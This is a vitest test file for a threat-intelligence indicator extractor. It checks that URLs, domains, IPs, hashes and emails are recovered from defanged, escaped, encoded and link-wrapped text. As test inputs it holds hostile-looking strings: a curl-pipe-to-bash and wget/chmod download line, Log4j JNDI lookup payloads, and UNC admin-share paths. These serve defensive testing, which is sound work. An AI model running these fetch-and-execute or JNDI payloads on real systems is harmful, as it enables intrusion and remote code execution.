/** What is found in text of kinds that people paste. Each line stands for a kind that was once read wrongly. */
import { describe, expect, it } from 'vitest';
import { extractIndicators } from '../setup/extract.ts';

type Case = readonly [text: string, found: readonly string[]];

const foundIn = (text: string): readonly string[] =>
  extractIndicators(text).map(({ type, value }) => `${type} ${value}`);

const kinds: Readonly<Record<string, readonly Case[]>> = {
  'a URL ends with its cell': [
    [
      'url,https://groups.bad.example.com/g/vfc9gs,Malicious Google Groups discussion',
      ['URL https://groups.bad.example.com/g/vfc9gs'],
    ],
    ['url,http://198.51.100.30/mirai.x86,payload', ['URL http://198.51.100.30/mirai.x86']],
    ['http://bad.example.com/a.php,2024-01-02,malware', ['URL http://bad.example.com/a.php']],
    ['2024-01-02,http://bad.example.com,C2', ['URL http://bad.example.com/']],
    [
      'http://bad.example.com/a;http://bad.example.org/b;x',
      ['URL http://bad.example.com/a', 'URL http://bad.example.org/b'],
    ],
    [
      '192.0.2.7,bad.example.com,d41d8cd98f00b204e9800998ecf8427e,http://bad.example.com/x,bob@bad.example.com,AS1234',
      [
        'IPV4 192.0.2.7',
        'DOMAIN bad.example.com',
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'URL http://bad.example.com/x',
        'EMAIL bob@bad.example.com',
      ],
    ],
    [
      'curl -s http://bad.example.com/x|bash; wget http://bad.example.org/y;chmod +x y && http://bad.example.net/z&',
      ['URL http://bad.example.com/x', 'URL http://bad.example.org/y', 'URL http://bad.example.net/z'],
    ],
    [
      'ip=192.0.2.7;domain=bad.example.com;url=http://bad.example.org/x;hash=d41d8cd98f00b204e9800998ecf8427e;mail=bob@bad.example.net',
      [
        'IPV4 192.0.2.7',
        'DOMAIN bad.example.com',
        'URL http://bad.example.org/x',
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'EMAIL bob@bad.example.net',
      ],
    ],
    [
      '356985.one,OneNote 636879.one.zip ; invoice.pdf.zip; backup.2024.zip; report.final.md, libcrypto.1.1.so; a.tar.sh; my.test.py',
      [],
    ],
    [
      'filename_d41d8cd98f00b204e9800998ecf8427e.bin /sample/d41d8cd98f00b204e9800998ecf8427f/ 0xd41d8cd98f00b204e9800998ecf84270',
      [
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'MD5 d41d8cd98f00b204e9800998ecf8427f',
        'MD5 d41d8cd98f00b204e9800998ecf84270',
      ],
    ],
    [
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.bin d41d8cd98f00b204e9800998ecf8427e.exe sample_d41d8cd98f00b204e9800998ecf8427f.zip',
      [
        'SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'MD5 d41d8cd98f00b204e9800998ecf8427f',
      ],
    ],
  ],
  'a scheme that is defanged in any way': [
    [
      'xxxx://bad.example.com/t.php xxxxs://proverka[.]example/ meow://bad[.]example[.]com/a',
      ['URL http://bad.example.com/t.php', 'URL https://proverka.example/', 'URL http://bad.example.com/a'],
    ],
    [
      'hxxp://bad.example.com hxtp://bad.example.com htxp://bad.example.org hxxps://bad.example.com',
      ['URL http://bad.example.com/', 'URL http://bad.example.org/', 'URL https://bad.example.com/'],
    ],
    ["$u='htps://thob[.]example/'.Insert(2,'t');", ['URL https://thob.example/']],
    [
      'h00ps://bad(.)example(.)com/ hXXp__bad[.]example[.]com hxxp:\\\\bad[.]example[.]com\\x',
      ['URL https://bad.example.com/', 'URL http://bad.example.com/x'],
    ],
  ],
  'symbols beside an indicator are decoration': [
    [
      '🔗bad.example.com ➡\ufe0fhttp://bad.example.org/x ✅192.0.2.7 ⚠\ufe0fd41d8cd98f00b204e9800998ecf8427e 🚨evil[.]example[.]net🚨',
      [
        'DOMAIN bad.example.com',
        'URL http://bad.example.org/x',
        'IPV4 192.0.2.7',
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'DOMAIN evil.example.net',
      ],
    ],
    [
      'C2: bad.example.com🔥 192.0.2.7☠\ufe0f and http://bad.example.org/x🔥',
      ['DOMAIN bad.example.com', 'IPV4 192.0.2.7', 'URL http://bad.example.org/x'],
    ],
    [
      'd41d8cd98f00b204e9800998ecf8427e\ufffd\nbad.example.com\ufffd 192.0.2.7\ufffd',
      ['MD5 d41d8cd98f00b204e9800998ecf8427e', 'DOMAIN bad.example.com', 'IPV4 192.0.2.7'],
    ],
    [
      'bad.example.com→192.0.2.7 bad.example.org➜192.0.2.8 bad.example.net⇒203.0.113.7',
      [
        'DOMAIN bad.example.com',
        'IPV4 192.0.2.7',
        'DOMAIN bad.example.org',
        'IPV4 192.0.2.8',
        'DOMAIN bad.example.net',
        'IPV4 203.0.113.7',
      ],
    ],
    [
      '•bad.example.com ·bad.example.org ▪192.0.2.7 ●http://bad.example.net/x ►io.example.com ■192.0.2.8 –co.example.com —us.example.com ※192.0.2.9',
      [
        'DOMAIN bad.example.com',
        'DOMAIN bad.example.org',
        'IPV4 192.0.2.7',
        'URL http://bad.example.net/x',
        'DOMAIN io.example.com',
        'IPV4 192.0.2.8',
        'DOMAIN co.example.com',
        'DOMAIN us.example.com',
        'IPV4 192.0.2.9',
      ],
    ],
    [
      '©bad.example.com ®bad.example.org™ №192.0.2.7',
      ['DOMAIN bad.example.com', 'DOMAIN bad.example.org', 'IPV4 192.0.2.7'],
    ],
  ],
  'escapes and markup': [
    [
      ',ldap://8a79.example.com:39356/a\\n198.51.100.30,dns.example.net dns2.example.net,2a68fb75fdfb94a63d666a51111ebf38c5d51844e5002d13cba9839102d67653,ldap://6fdf.example.org',
      [
        'URL ldap://8a79.example.com:39356/a',
        'IPV4 198.51.100.30',
        'DOMAIN dns.example.net',
        'DOMAIN dns2.example.net',
        'SHA256 2a68fb75fdfb94a63d666a51111ebf38c5d51844e5002d13cba9839102d67653',
        'URL ldap://6fdf.example.org',
      ],
    ],
    [
      '{"t":"see http://bad.example.com/x\\nand 192.0.2.7\\tbad.example.org"}',
      ['URL http://bad.example.com/x', 'IPV4 192.0.2.7', 'DOMAIN bad.example.org'],
    ],
    [
      '{"u":"http://bad.example.com/?a=1\\u0026b=2","v":"\\u003chttp://bad.example.org/\\u003e"}',
      ['URL http://bad.example.com/?a=1&b=2', 'URL http://bad.example.org/'],
    ],
    // Its label begins like a root of Windows' registry.
    ['"\\u003caa.hkudos.example.com\\u003e"', ['DOMAIN aa.hkudos.example.com']],
    [
      '<a href="http://bad.example.com/?a=1&amp;b=2">x</a>&nbsp;http://bad.example.org/y&nbsp;z &lt;http://bad.example.net/z&gt; &quot;http://io.example.com/q&quot;',
      [
        'URL http://bad.example.com/?a=1&b=2',
        'URL http://bad.example.org/y',
        'URL http://bad.example.net/z',
        'URL http://io.example.com/q',
      ],
    ],
    [
      'href=3D"http://bad.example.com/?id=3D5"> visit http://bad.example.org/very=\n/long/path today',
      ['URL http://bad.example.com/?id=5', 'URL http://bad.example.org/very/long/path'],
    ],
    [
      '[click](http://bad.example.com/a_(b)) **http://bad.example.org/x** _http://bad.example.net/y_ `http://io.example.com/z` ~~http://co.example.com/w~~',
      [
        'URL http://bad.example.com/a_(b)',
        'URL http://bad.example.org/x',
        'URL http://bad.example.net/y',
        'URL http://io.example.com/z',
        'URL http://co.example.com/w',
      ],
    ],
    [
      '*bob@bad.example.com* _bob@bad.example.org_ **bad.example.net** _io.example.com_ `192.0.2.7`',
      [
        'EMAIL bob@bad.example.com',
        'EMAIL bob@bad.example.org',
        'DOMAIN bad.example.net',
        'DOMAIN io.example.com',
        'IPV4 192.0.2.7',
      ],
    ],
    [
      '[label|http://bad.example.com/x] {code}http://bad.example.org/y{code}',
      ['URL http://bad.example.com/x', 'URL http://bad.example.org/y'],
    ],
    [
      '\\url{http://bad.example.com/x} \\href{http://bad.example.org/y}{t}',
      ['URL http://bad.example.com/x', 'URL http://bad.example.org/y'],
    ],
    [
      '<loc>http://bad.example.com/?a=1&amp;b=2</loc><url><![CDATA[http://bad.example.org/x]]></url>',
      ['URL http://bad.example.com/?a=1&b=2', 'URL http://bad.example.org/x'],
    ],
  ],
  'broken and half defanged hosts': [
    ['C2 www\\.example-bad\\.example and 198\\.51\\.100\\.7', ['DOMAIN www.example-bad.example', 'IPV4 198.51.100.7']],
    [
      'http//bad.example.com/test.php https:///bad.example.com/test.php',
      ['URL http://bad.example.com/test.php', 'URL https://bad.example.com/test.php'],
    ],
    [
      '[http]://bad.example.com/test.php [https]://bad.example.org/x',
      ['URL http://bad.example.com/test.php', 'URL https://bad.example.org/x'],
    ],
    [
      'http://bad.example.com[/]path hxxps[:]//bad[.]example[.]com[/]a[/]b',
      ['URL http://bad.example.com/path', 'URL https://bad.example.com/a/b'],
    ],
    ['https://bad\\(.)example\\(.)com/ 192\\.0\\.2\\.10', ['URL https://bad.example.com/', 'IPV4 192.0.2.10']],
    ['%2Ffrea.example.com frea.example.com%2F', ['DOMAIN frea.example.com']],
    [
      'http:\\\\www.example.com http:/www.example.com https:www.example.com hxxp:\\www.example.com',
      ['URL http://www.example.com/', 'DOMAIN www.example.com'],
    ],
    [
      '192.0.2.1[/]24 www[.example[.com http[://]bad.example.com',
      ['IPV4 192.0.2.1', 'DOMAIN www.example.com', 'URL http://bad.example.com/'],
    ],
    [
      'http[://bad[.]example[.]com/x hxxp[:// bad[.]example[.]com',
      ['URL http://bad.example.com/x', 'URL http://bad.example.com/'],
    ],
    ['xz[.]duote[.]example/softdown/minjiehf@_29773.exe', ['DOMAIN xz.duote.example']],
    ['mother-bad[.]example[.]com/images/logo.gif%3f345a38=24016776', ['DOMAIN mother-bad.example.com']],
    [
      "onedrive-files.mos.sufybkt[.]example/webmail%20successful.html#[recipient's email",
      ['DOMAIN onedrive-files.mos.sufybkt.example'],
    ],
    ['bad.example.com/a%20b', ['DOMAIN bad.example.com']],
    ['- hxxp://198.51.100[.]64%20', ['URL http://198.51.100.64/']],
    ['- hxxps[:]///eco-bad[.]example/are-dune/', ['URL https://eco-bad.example/are-dune/']],
    ['hxxps:/bad.rxheart.example/ofw/', ['URL https://bad.rxheart.example/ofw/']],
    ['file[:]\\\\glob-bad[.]example[.]com@80\\share\\sharepoint.msi', ['DOMAIN glob-bad.example.com']],
    [
      '\\\\198.51.100.31@80\\share\\gsm.msi and \\\\bad.example.com\\c$\\x.exe and \\\\192.0.2.3\\ADMIN$',
      ['IPV4 198.51.100.31', 'DOMAIN bad.example.com', 'IPV4 192.0.2.3'],
    ],
    ['crumb=location:\\\\198[.]51[.]100[.]118@80\\Documentos&displayname=Downloads', ['IPV4 198.51.100.118']],
    [
      '\u200bbad.example.com\u200b and x \u200e192.0.2.7\u200e and \u200bhttp://bad.example.org/x\u200b',
      ['DOMAIN bad.example.com', 'IPV4 192.0.2.7', 'URL http://bad.example.org/x'],
    ],
    ['evil\u00adname.example.com', ['DOMAIN evilname.example.com']],
    [
      'hxxps[]://198.51.100[.]45/x hxxps[]//bad[.]example[.]com',
      ['URL https://198.51.100.45/x', 'URL https://bad.example.com/'],
    ],
    [
      'file://198.51.100[.]234@8789/DavWWWRoot/file.bat \\\\bad[.]example[.]com@SSL\\DavWWWRoot\\x',
      ['IPV4 198.51.100.234', 'DOMAIN bad.example.com'],
    ],
    [
      '192.0.2.0/24, 192.0.2.128/25; (198.51.100.0/24) 203.0.113.0[/]24 2001:db8::/32. 203.0.113.0/25',
      [
        'CIDR 192.0.2.0/24',
        'CIDR 192.0.2.128/25',
        'CIDR 198.51.100.0/24',
        'CIDR 203.0.113.0/24',
        'CIDR 2001:db8::/32',
        'CIDR 203.0.113.0/25',
      ],
    ],
    ['\u200fbad.example.com\u200f و \u202a192.0.2.7\u202c', ['DOMAIN bad.example.com', 'IPV4 192.0.2.7']],
  ],
  'the whole of a host': [
    ['foo[-]bar.example.com/.well-known/x.pdf', ['DOMAIN foo-bar.example.com']],
    ['[www].example-bad.example.com', ['DOMAIN www.example-bad.example.com']],
    ['(www).example-bad.example.com', ['DOMAIN www.example-bad.example.com']],
    [
      'spf=pass smtp.mailfrom=ex@bad.example.com; header.from=bad.example.org -----foo@bar.example.com',
      ['EMAIL ex@bad.example.com', 'DOMAIN bad.example.org', 'EMAIL foo@bar.example.com'],
    ],
  ],
  'scripts without spaces': [
    [
      '悪意のあるURLはhttp://bad.example.com/xです。IPは192.0.2.7、bad.example.orgに接続',
      ['URL http://bad.example.com/x', 'IPV4 192.0.2.7', 'DOMAIN bad.example.org'],
    ],
    [
      '악성코드가bad.example.com으로 접속하며 192.0.2.7에 연결 http://bad.example.org/x를',
      ['DOMAIN bad.example.com', 'IPV4 192.0.2.7', 'URL http://bad.example.org/x'],
    ],
    ['เว็บbad.example.comและ192.0.2.7', ['DOMAIN bad.example.com', 'IPV4 192.0.2.7']],
  ],
  'files are no domains': [
    [
      '356985.one,OneNote 636879.one.zip ; invoice.pdf.zip; backup.2024.zip; report.final.md, libcrypto.1.1.so; a.tar.sh; my.test.py',
      [],
    ],
  ],
  'a hash that is the name of a file': [
    [
      'filename_d41d8cd98f00b204e9800998ecf8427e.bin /sample/d41d8cd98f00b204e9800998ecf8427f/ 0xd41d8cd98f00b204e9800998ecf84270',
      [
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'MD5 d41d8cd98f00b204e9800998ecf8427f',
        'MD5 d41d8cd98f00b204e9800998ecf84270',
      ],
    ],
    [
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.bin d41d8cd98f00b204e9800998ecf8427e.exe sample_d41d8cd98f00b204e9800998ecf8427f.zip',
      [
        'SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        'MD5 d41d8cd98f00b204e9800998ecf8427e',
        'MD5 d41d8cd98f00b204e9800998ecf8427f',
      ],
    ],
  ],
  'logs and configurations': [
    ['12:00:00.1 IP 192.0.2.7.51234 > 198.51.100.7.443: Flags [S]', ['IPV4 192.0.2.7', 'IPV4 198.51.100.7']],
    [
      '||bad.example.com^ ||bad.example.org^$third-party 0.0.0.0 bad.example.net # x\naddress=/io.example.com/0.0.0.0\nlocal-zone: "co.example.com" static\nzone "us.example.com" {type master;};',
      [
        'DOMAIN bad.example.com',
        'DOMAIN bad.example.org',
        'IPV4 0.0.0.0',
        'DOMAIN bad.example.net',
        'DOMAIN io.example.com',
        'DOMAIN co.example.com',
        'DOMAIN us.example.com',
      ],
    ],
  ],
  'a comma that may be part of the URL gives both': [
    [
      'see http://evil.example.org/a,b.html for more',
      ['URL http://evil.example.org/a', 'URL http://evil.example.org/a,b.html'],
    ],
    [
      'http://evil.example.org/news,123,title.html',
      ['URL http://evil.example.org/news', 'URL http://evil.example.org/news,123,title.html'],
    ],
    ['http://evil.example.org/?ids=1,2,3 and', ['URL http://evil.example.org/?ids=1,2,3']],
    ['http://evil.example.org/a;jsessionid=1?x=2', ['URL http://evil.example.org/a;jsessionid=1?x=2']],
  ],
  'a name that is also that of a file is a domain where it stands among domains, has a path, port or scheme': [
    ['evil-example.zip', []],
    ['evil-example[.]zip', ['DOMAIN evil-example.zip']],
    ['evil-example.zip/x', ['DOMAIN evil-example.zip']],
    ['evil-example.zip:443', ['DOMAIN evil-example.zip']],
    ['https://evil-example.zip/x', ['URL https://evil-example.zip/x']],
    [
      'evil.example.org\nevil-example.zip\nbad.example.net',
      ['DOMAIN evil.example.org', 'DOMAIN evil-example.zip', 'DOMAIN bad.example.net'],
    ],
    ['1,evil-example.zip\n2,bad.example.net', ['DOMAIN evil-example.zip', 'DOMAIN bad.example.net']],
    ['main.rs\nlib.rs', []],
  ],
  'packages, members of code and versions are no domains': [
    ['com.example.app ru.evil.android.app self.name user.email.to window.open', []],
    ['OpenSSH 7.4.1.2, PAN-OS 10.2.0.1, kernel 5.4.0.1, OID 1.3.6.1', []],
  ],
  'a sign of the query stays': [
    ['http://evil.example.org/?ip=\nnext', ['URL http://evil.example.org/?ip=']],
    [
      'http://evil.example.org/ar=d29yZA==\nhttp://two.example.org/x',
      ['URL http://evil.example.org/ar=d29yZA==', 'URL http://two.example.org/x'],
    ],
    [
      'http://evil.example.org/a?win%2016,0,305\nhttp://two.example.org/win%2016,0,305',
      [
        'URL http://evil.example.org/a?win%2016',
        'URL http://evil.example.org/a?win%2016,0,305',
        'URL http://two.example.org/win%2016',
        'URL http://two.example.org/win%2016,0,305',
      ],
    ],
    ['http://evil.example.org/?a=1& next', ['URL http://evil.example.org/?a=1&']],
    ['http://evil.example.org/?a[]=1&b[c]=2 next', ['URL http://evil.example.org/?a[]=1&b[c]=2']],
  ],
  'paths of Windows are no escapes and no hosts': [
    ['C:\\new\\evil.example.org\\x.exe and "D:\\\\temp\\\\evil.example.org"', []],
    ['HKLM\\Software\\evil.example.org', []],
  ],
  'what another letter hides is not found at all': [
    ['evil\u200b.example.org \u24d4vil.example.org %65vil.example.org', []],
  ],
  'ports and zones of addresses': [
    ['2001:db8::8:51234', ['IPV6 2001:db8::8']],
    ['fe80::1%eth0:80', ['IPV6 fe80::1']],
    ['192.0.2.7%eth0:68', ['IPV4 192.0.2.7']],
    ['2001:db8:1:2:3:4:5:6:443', ['IPV6 2001:db8:1:2:3:4:5:6']],
    ['WWN 50:01:43:80:12:34:56:78', []],
  ],
  'accounts of Windows are no line ends': [
    ['[10:00] CORP\\nick@evil.example.org logged in', ['EMAIL nick@evil.example.org']],
    ['"a","CORP\\tom.example.org"', []],
    [
      'evil.example.org\\n192.0.2.7\\nbob@evil.example.org',
      ['DOMAIN evil.example.org', 'IPV4 192.0.2.7', 'EMAIL bob@evil.example.org'],
    ],
  ],
  'terminals and mail': [
    ['\u001b[31mevil.example.org\u001b[0m \u001b[1m192.0.2.7\u001b[0m', ['DOMAIN evil.example.org', 'IPV4 192.0.2.7']],
    [
      'Content-Transfer-Encoding: quoted-printable\n\nhttps://evil.example.org/u?id=AB12 http://evil.example.org/?a=3Db\n--part-1\n\nhttp://evil.example.org/?id=3D2',
      [
        'URL https://evil.example.org/u?id=AB12',
        'URL http://evil.example.org/?a=b',
        'URL http://evil.example.org/?id=3D2',
      ],
    ],
    [
      'From: =?UTF-8?Q?Bob_=3Cbob=40evil.example.org=3E?= <x@two.example.org>',
      ['EMAIL bob@evil.example.org', 'EMAIL x@two.example.org'],
    ],
    ['From: =?utf-8?B?PGJvYkBldmlsLmV4YW1wbGUub3JnPg==?=', ['EMAIL bob@evil.example.org']],
  ],
  'a scheme in a sentence begins no URL': [
    ['write https:// first. Then go on', []],
    ['see https:// evil.example.org/x', ['URL https://evil.example.org/x']],
  ],
  'strings that scripts join': [
    ["$a='ht'+'tp://evil.ex'+'ample.org/x'", ['URL http://evil.example.org/x']],
    ['u = "http://evil." & "example.org/x"', ['URL http://evil.example.org/x']],
    [
      '"evil.example.org" & "bad.example.net", \'192.0.2.1\' + \'192.0.2.2\'',
      ['DOMAIN evil.example.org', 'DOMAIN bad.example.net', 'IPV4 192.0.2.1', 'IPV4 192.0.2.2'],
    ],
    [
      '"http://evil.example.org/x" & "http://two.example.org/y"',
      ['URL http://evil.example.org/x', 'URL http://two.example.org/y'],
    ],
  ],
  'escapes of scripts and logs': [
    ['var u="http:\\x2F\\x2Fevil.example.org\\x2Fa"', ['URL http://evil.example.org/a']],
    ['"GET /?x=\\x22http://evil.example.org/x\\x22 HTTP/1.1"', ['URL http://evil.example.org/x']],
    ['$%7Bjndi:ldap://192.0.2.7:1389/a%7D', ['URL ldap://192.0.2.7:1389/a']],
    ['?u=%22http://evil.example.org/x%22', ['URL http://evil.example.org/x']],
    ['GET /r?u=http%3A//evil.example.org/x', ['URL http://evil.example.org/x']],
    ['/r?to=a%3Dhttp%3A%2F%2Fevil.example.org%2Fx', ['URL http://evil.example.org/x']],
    [
      'ldap%3A%2F%2Fevil.example.org%2Fx http%253A%252F%252Fevil.example.org',
      ['URL ldap://evil.example.org/x', 'URL http://evil.example.org/'],
    ],
    [
      'ip%3D192.0.2.7%26host%3Devil.example.org bob%40evil.example.org',
      ['IPV4 192.0.2.7', 'DOMAIN evil.example.org', 'EMAIL bob@evil.example.org'],
    ],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j's lookups look so
    ['${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.org/x}', ['DOMAIN evil.example.org']],
  ],
  'the whole of a mail address, or nothing': [
    ['<bounce+abc=bob=example.org@evil.example.org>', []],
    ["o'brien@evil.example.org", []],
    ['Message-ID: <20230101.abc$def@evil.example.org>', []],
    ['to=bob@evil.example.org', ['EMAIL bob@evil.example.org']],
  ],
  'the whole of a name, or nothing': [
    ['<em>evil</em>.example.org', []],
    ['**evil**.example.org', []],
    ['evil.exam<wbr>ple.org evil.exam&shy;ple.org', ['DOMAIN evil.example.org']],
    ['@kibana-highlighted-field@evil@/kibana-highlighted-field@.example.org', ['DOMAIN evil.example.org']],
    ['hxxps://evil[.].example.org/x', ['URL https://evil.example.org/x']],
    ['http://evil,example,org/', []],
    ['http://http://evil.example.org/x', ['URL http://evil.example.org/x']],
    ['A (4)evil(7)example(3)org(0)', ['DOMAIN evil.example.org']],
    ['מ-evil.example.org', ['DOMAIN evil.example.org']],
  ],
  'what goes on behind a URL': [
    [
      'http://evil.example.org/x→http://two.example.org/y->http://evil.example.org/z',
      ['URL http://evil.example.org/x', 'URL http://two.example.org/y', 'URL http://evil.example.org/z'],
    ],
    [
      'http://evil.example.org/x—which then loads',
      ['URL http://evil.example.org/x', 'URL http://evil.example.org/x—which'],
    ],
    ['http://evil.example.org/long...', ['DOMAIN evil.example.org']],
    ['at f (https://evil.example.org/static/app.js:10:5123)', ['URL https://evil.example.org/static/app.js']],
    ['http://evil.example.org/x(192.0.2.7)', ['URL http://evil.example.org/x', 'IPV4 192.0.2.7']],
    [
      'url=http://evil.example.org/x^srcPort=81^dhost=two.example.org',
      ['URL http://evil.example.org/x', 'DOMAIN two.example.org'],
    ],
    [
      'https://evil.example.org/login:bob@two.example.org:pass',
      ['URL https://evil.example.org/login', 'EMAIL bob@two.example.org'],
    ],
    ['http://user:pass@evil.example.org/x', ['URL http://user:pass@evil.example.org/x']],
    ['file:///etc/passwd', []],
  ],
  'names and addresses beside brackets and labels': [
    ['from mail.evil.example.org(192.0.2.7) by x', ['DOMAIN mail.evil.example.org', 'IPV4 192.0.2.7']],
    ['IPs of the second release:\n192.0.2.7\n192.0.2.8', ['IPV4 192.0.2.7', 'IPV4 192.0.2.8']],
    ['kernel: 192.0.2.7 blocked', ['IPV4 192.0.2.7']],
    ['Host: EVIL-EXAMPLE.SH', ['DOMAIN evil-example.sh']],
    [
      'Dropped by setup.zip, contacts:\nevil.example.org\nthen runs install.sh and $_.Name',
      ['DOMAIN evil.example.org'],
    ],
  ],
  'code, packages, versions and fingerprints': [
    ['at java.net.X.get(InetAddress.java:1280)', []],
    ['com.example.app\ncom.example.mobile.pay\ncom.example.bank', []],
    [
      'pe.imphash() == "0123456789abcdef0123456789abcdef" ; "ja3":{"hash":"fedcba9876543210fedcba9876543210"} ; JA3S hash 0123456789abcdef0123456789abcdef',
      [],
    ],
    ['<assemblyIdentity name="x" version="6.0.0.0"/>', []],
    ['Django==3.2.1.2\n"node": ">=1.2.3.4"\n^1.2.3.4', []],
    ['CEF:0|V|P|1.0.2.3|100|n|10|src=192.0.2.7', ['IPV4 192.0.2.7']],
    ['threat.technique.id rule.name host.id kubernetes.pod.name $left.id $x.data', []],
    ['0x0123456789abcdef0123456789abcdef00000000', []],
  ],
};

describe.each(Object.entries(kinds))('%s', (_, cases) => {
  it.each(cases)('%j', (text, found) => {
    expect(foundIn(text)).toEqual(found);
  });
});

const inner = 'URL https://evil.example.org/x?a=1';
const wrappers = {
  'Microsoft Safe Links':
    'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example.org%2Fx%3Fa%3D1&data=05%7C01',
  'Proofpoint, first': 'https://urldefense.proofpoint.com/v1/url?u=https://evil.example.org/x%3Fa%3D1&k=abc',
  'Proofpoint, second': 'https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example.org_x-3Fa-3D1&d=DwMF',
  'Proofpoint, third': 'https://urldefense.com/v3/__https://evil.example.org/x?a=1__;!!token$',
  'Proofpoint, third, with a sign apart': 'https://urldefense.com/v3/__https://evil.example.org/x*a=1__;Pw!!token$',
  Google: 'https://www.google.com/url?sa=D&q=https://evil.example.org/x?a%3D1',
  Facebook: 'https://l.facebook.com/l.php?u=https%3A%2F%2Fevil.example.org%2Fx%3Fa%3D1&h=AT0',
  Barracuda: 'https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil.example.org%2fx%3fa%3d1&c=E',
  Cisco: 'https://secure-web.cisco.com/1abc/https%3A%2F%2Fevil.example.org%2Fx%3Fa%3D1',
};

describe.each(Object.entries(wrappers))('a link of %s', (_, link) => {
  it('is found beside the link that it wraps', () => {
    expect(foundIn(`see <${link}>.`)).toEqual([`URL ${link}`, inner]);
  });
});

it('a link of Mimecast tells no more than the domain', () => {
  const link = 'https://protect-eu.mimecast.com/s/abc?domain=evil.example.org';
  expect(foundIn(link)).toEqual([`URL ${link}`, 'DOMAIN evil.example.org']);
});

it('links may wrap one another, and the same in themselves without end', () => {
  const google = `https://www.google.com/url?q=${encodeURIComponent(wrappers.Facebook)}`;
  expect(foundIn(google)).toEqual([`URL ${google}`, `URL ${wrappers.Facebook}`, inner]);
  const search = 'https://www.google.com/url?q=what+is+this';
  expect(foundIn(search)).toEqual([`URL ${search}`]);
});

it('a URL that is escaped whole is found as it is meant', () => {
  expect(foundIn('to=https%3A%2F%2Fevil.example.org%2Fx%3Fa%3D1&b=1')).toEqual([inner]);
});
